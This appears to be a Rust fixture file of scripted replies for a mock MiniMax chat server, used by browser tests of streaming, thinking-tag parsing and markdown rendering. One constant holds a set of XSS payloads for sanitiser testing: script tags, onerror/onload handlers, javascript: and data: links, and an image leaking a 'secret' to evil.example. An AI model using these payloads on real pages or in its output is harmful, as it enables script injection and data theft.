//! Exact texts of the deterministic scenarios. Browser tests assert these
//! strings, and README.md documents them: change all three together.
//!
//! `*_PARTS` are the fragments as sent; the joined text is what the app must
//! end up showing.

pub const BASIC_THINKING: &str = "The user wants a greeting. I will keep it short.";
pub const BASIC_ANSWER: &str = "Hello! **How can I help** today?";
pub const BASIC_THINKING_PARTS: &[&str] = &["The user wants a greeting.", " I will keep it short."];
/// Split inside the bold span, so the renderer sees unbalanced `**` mid-stream.
pub const BASIC_ANSWER_PARTS: &[&str] = &["Hello! **How can", " I help** today?"];

/// Inline tags split mid-tag. Thinking "I should answer briefly.", answer "Inline answer here."
pub const INLINE_THINK_PARTS: &[&str] = &[
    "<thi",
    "nk>\nI should",
    " answer briefly.\n</th",
    "ink>\n\nInline",
    " answer here.",
];
pub const INLINE_THINK_THINKING: &str = "I should answer briefly.";
pub const INLINE_THINK_ANSWER: &str = "Inline answer here.";

pub const MM_THINK_PARTS: &[&str] = &[
    "<think>\nThe closing tag",
    " is unusual here.\n</mm:th",
    "ink>\n\nAnswer after",
    " mm close.",
];
pub const MM_THINK_THINKING: &str = "The closing tag is unusual here.";
pub const MM_THINK_ANSWER: &str = "Answer after mm close.";

pub const NO_OPEN_THINK_PARTS: &[&str] = &[
    "Reasoning without",
    " an opening tag.</th",
    "ink>\n\nThe answer",
    " after it.",
];
pub const NO_OPEN_THINK_THINKING: &str = "Reasoning without an opening tag.";
pub const NO_OPEN_THINK_ANSWER: &str = "The answer after it.";

/// The whole content; thinking "This block never closes", no answer.
pub const UNCLOSED_THINK_PARTS: &[&str] = &["<think>\nThis block", " never closes"];

/// Cumulative snapshots; the final thinking is the last one.
pub const SNAPSHOT_PARTS: &[&str] = &[
    "The",
    "The user",
    "The user asks about",
    "The user asks about snapshots.",
    "The user asks about snapshots. I will answer plainly.",
];
pub const SNAPSHOT_THINKING: &str = "The user asks about snapshots. I will answer plainly.";
pub const SNAPSHOT_ANSWER_PARTS: &[&str] = &["Snapshot reasoning", " handled."];
pub const SNAPSHOT_ANSWER: &str = "Snapshot reasoning handled.";

/// Split-mode reasoning ending in a literal `</think>` split across chunks.
pub const STRAY_CLOSE_PARTS: &[&str] = &[
    "Thinking in split mode",
    " with a stray close tag.</thi",
    "nk>",
];
pub const STRAY_CLOSE_THINKING: &str = "Thinking in split mode with a stray close tag.";
pub const STRAY_CLOSE_ANSWER_PARTS: &[&str] = &["The answer after", " the stray tag."];
pub const STRAY_CLOSE_ANSWER: &str = "The answer after the stray tag.";

pub const CRLF_THINKING: &str = "Checking bytes: é, 你好, 🦀.";
pub const CRLF_ANSWER: &str = "Crab 🦀 says 你好 — café.";
pub const CRLF_ANSWER_PARTS: &[&str] = &["Crab 🦀 says ", "你好 — café."];

pub const LENGTH_THINKING: &str = "I will write a long answer.";
pub const LENGTH_ANSWER_PARTS: &[&str] = &[
    "This answer is cut short because",
    " it reached the token li",
];
pub const LENGTH_ANSWER: &str = "This answer is cut short because it reached the token li";

pub const FILTER_THINKING: &str = "Checking the request against the content policy.";
pub const FILTER_ANSWER: &str = "I can't continue with";

pub const TOOL_THINKING: &str = "The user asked for the weather; a tool would help.";
pub const TOOL_ANSWER: &str = "I can't call tools here, but Paris is usually mild in spring.";

/// `stall`: text before and after a 30 s silence.
pub const STALL_THINKING: &str = "A quick thought before the pause.";
pub const STALL_BEFORE: &str = "Here is the start, then the server goes quiet.";
pub const STALL_AFTER: &str = " And here is the rest, after the pause.";

pub const CUT_THINKING: &str = "Starting to think about this.";
/// `cut` sends these and ends the body cleanly, without finish or `[DONE]`.
pub const CUT_ANSWER_PARTS: &[&str] = &["This answer stops", " in the mid"];
pub const CUT_ANSWER: &str = "This answer stops in the mid";
/// `cut-midway-reset` sends CUT_ANSWER_PARTS whole, then half of this one's
/// event, then closes the socket.
pub const RESET_LOST_PART: &str = "dle of a chunk";

pub const MIDSTREAM_THINKING: &str = "Answering until the server fails.";
pub const MIDSTREAM_ANSWER_PARTS: &[&str] = &["Here is the start", " of an answer that"];
pub const MIDSTREAM_ANSWER: &str = "Here is the start of an answer that";

pub const ECHO_THINKING: &str = "Echoing the request back as JSON.";

pub const XSS_THINKING: &str =
    "Thinking with <b>markup</b> and <img src=x onerror=alert('think')> inside.";
pub const XSS_ANSWER: &str = r#"# Hostile markdown

Raw script: <script>alert('x')</script>

Image: <img src=x onerror=alert(1)>

Links: [a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](  javascript:alert(1)) [d](java&#115;cript:alert(1)) [e](&#106;avascript:alert(1)) [f](data:text/html,<script>alert(1)</script>) [g](vbscript:msgbox(1))

HTML link: <a href="javascript:alert(1)">h</a>

Tracking image: ![leak](https://evil.example/leak.png?q=secret)

Frame: <iframe srcdoc="<script>alert(1)</script>">

Vector: <svg onload=alert(1)>

Safe: [safe](https://example.com)
"#;

pub const SHOWCASE_THINKING: &str =
    "The user wants to see code, a table and some math. I will show one of each.";
/// `showcase`: the blocks a rendering review wants to see at once.
pub const SHOWCASE_ANSWER: &str = r#"## Reading a file in Rust

```rust
use std::fs;

/// Counts the lines of a file.
fn count_lines(path: &str) -> std::io::Result<usize> {
    let text = fs::read_to_string(path)?;
    Ok(text.lines().count()) // 42 for the sample
}
```

The same in Python:

```python
def count_lines(path: str) -> int:
    with open(path) as f:
        return sum(1 for _ in f)  # "lazy"
```

| Language | Lines | Needs a build |
| :------- | ----: | :-----------: |
| Rust     |     6 | yes           |
| Python   |     3 | no            |

- [x] read the file
- [ ] handle errors

The mean is $\bar{x} = \frac{1}{n}\sum_{i=1}^{n} x_i$ and the error shrinks like $\sigma/\sqrt{n}$.

$$E = mc^2 \quad\text{and}\quad a^2 + b^2 = c^2$$

> Measure before you optimise.[^1]

[^1]: A rule worth keeping.
"#;

pub const MATH_THINKING: &str =
    "The user asks for the integral. Antiderivative x³/3, evaluate from 0 to 3.";
/// `math`: typeset formulas of every common kind, inline and display.
pub const MATH_ANSWER: &str = r#"The area under $f(x) = x^2$ from $0$ to $3$ is a definite integral:

$$\int_0^3 x^2\,dx = \left[\frac{x^3}{3}\right]_0^3 = \frac{27}{3} - 0 = 9$$

In general $\sum_{k=1}^{n} k^2 = \frac{n(n+1)(2n+1)}{6}$, and the Gaussian integral is

$$\int_{-\infty}^{\infty} e^{-x^2}\,dx = \sqrt{\pi}$$

A rotation by $\theta$ is the matrix

$$R(\theta) = \begin{pmatrix} \cos\theta & -\sin\theta \\ \sin\theta & \cos\theta \end{pmatrix}$$

and the absolute value is defined piecewise:

$$|x| = \begin{cases} x & x \ge 0 \\ -x & x < 0 \end{cases}$$
"#;

/// `slow`: 10 thinking fragments, then 50 answer fragments.
pub fn slow_parts() -> (Vec<String>, Vec<String>) {
    let thinking = (1..=10)
        .map(|n| {
            let sep = if n == 1 { "" } else { " " };
            format!("{sep}Thinking step {n}.")
        })
        .collect();
    let answer = (1..=50)
        .map(|n| {
            let sep = if n == 1 { "" } else { " " };
            format!("{sep}Word {n}")
        })
        .collect();
    (thinking, answer)
}

/// The user's words made inert for quoting: one line, at most `max` chars,
/// no characters that markdown or HTML would act on.
pub fn safe_quote(text: &str, max: usize) -> String {
    let cleaned: String = text
        .chars()
        .map(|c| {
            if c.is_control() || "<>&`*_[]()|\\#!~\"".contains(c) {
                ' '
            } else {
                c
            }
        })
        .collect();
    let words: Vec<&str> = cleaned.split_whitespace().collect();
    let joined = words.join(" ");
    if joined.chars().count() <= max {
        return joined;
    }
    let cut: String = joined.chars().take(max).collect();
    format!("{}…", cut.trim_end())
}

/// The default demo reply: (thinking, answer).
pub fn demo_reply(user_text: &str) -> (String, String) {
    let quote = safe_quote(user_text, 60);
    let said = if quote.is_empty() {
        "an empty message".to_string()
    } else {
        format!("“{quote}”")
    };
    let thinking = format!(
        "The user wrote {said}. This is the local mock server, not a real model, so I will \
         answer with a short demo that shows what the app can render: a heading, a list, \
         bold text, inline code, a code block and a table."
    );
    let answer = format!(
        "## Hello from the mock server\n\n\
         This is a local demo reply from the mock server: no API key was checked and nothing \
         left your machine. You said {said}, and a real MiniMax model would answer it properly.\n\n\
         Here is what the app can show:\n\n\
         - **Streaming** text that arrives in coarse chunks, like the real API\n\
         - The model's *thinking*, kept apart from the answer\n\
         - `inline code`, such as `reasoning_split: true`\n\n\
         ```rust\n\
         fn main() {{\n    let greeting = \"Hello, MiniMax!\";\n    println!(\"{{greeting}}\");\n}}\n\
         ```\n\n\
         | Feature | In this demo |\n\
         | --- | --- |\n\
         | Streaming | yes |\n\
         | Thinking | yes |\n\
         | Real answers | no, canned text |\n\n\
         Put `scenario:slow` in a message to watch a long reply you can stop, or \
         `scenario:err-429` to see an error. Run `mock-minimax --list` for every scenario."
    );
    (thinking, answer)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parts_join_to_the_documented_texts() {
        assert_eq!(BASIC_THINKING_PARTS.concat(), BASIC_THINKING);
        assert_eq!(BASIC_ANSWER_PARTS.concat(), BASIC_ANSWER);
        assert_eq!(
            INLINE_THINK_PARTS.concat(),
            format!("<think>\n{INLINE_THINK_THINKING}\n</think>\n\n{INLINE_THINK_ANSWER}")
        );
        assert_eq!(
            MM_THINK_PARTS.concat(),
            format!("<think>\n{MM_THINK_THINKING}\n</mm:think>\n\n{MM_THINK_ANSWER}")
        );
        assert_eq!(
            NO_OPEN_THINK_PARTS.concat(),
            format!("{NO_OPEN_THINK_THINKING}</think>\n\n{NO_OPEN_THINK_ANSWER}")
        );
        assert_eq!(SNAPSHOT_PARTS.last().copied(), Some(SNAPSHOT_THINKING));
        assert_eq!(SNAPSHOT_ANSWER_PARTS.concat(), SNAPSHOT_ANSWER);
        assert_eq!(
            STRAY_CLOSE_PARTS.concat(),
            format!("{STRAY_CLOSE_THINKING}</think>")
        );
        assert_eq!(STRAY_CLOSE_ANSWER_PARTS.concat(), STRAY_CLOSE_ANSWER);
        assert_eq!(CRLF_ANSWER_PARTS.concat(), CRLF_ANSWER);
        assert_eq!(LENGTH_ANSWER_PARTS.concat(), LENGTH_ANSWER);
        assert_eq!(CUT_ANSWER_PARTS.concat(), CUT_ANSWER);
        assert_eq!(MIDSTREAM_ANSWER_PARTS.concat(), MIDSTREAM_ANSWER);
    }

    #[test]
    fn slow_has_sixty_fragments() {
        let (t, a) = slow_parts();
        assert_eq!(t.len() + a.len(), 60);
        assert!(a.concat().starts_with("Word 1 Word 2 Word 3"));
        assert!(a.concat().ends_with("Word 50"));
    }

    #[test]
    fn quotes_are_inert_and_short() {
        assert_eq!(safe_quote("<script>**x**</script>", 60), "script x /script");
        assert_eq!(safe_quote("  a\n\tb  ", 60), "a b");
        let long = "é".repeat(100);
        assert_eq!(safe_quote(&long, 10), format!("{}…", "é".repeat(10)));
    }
}
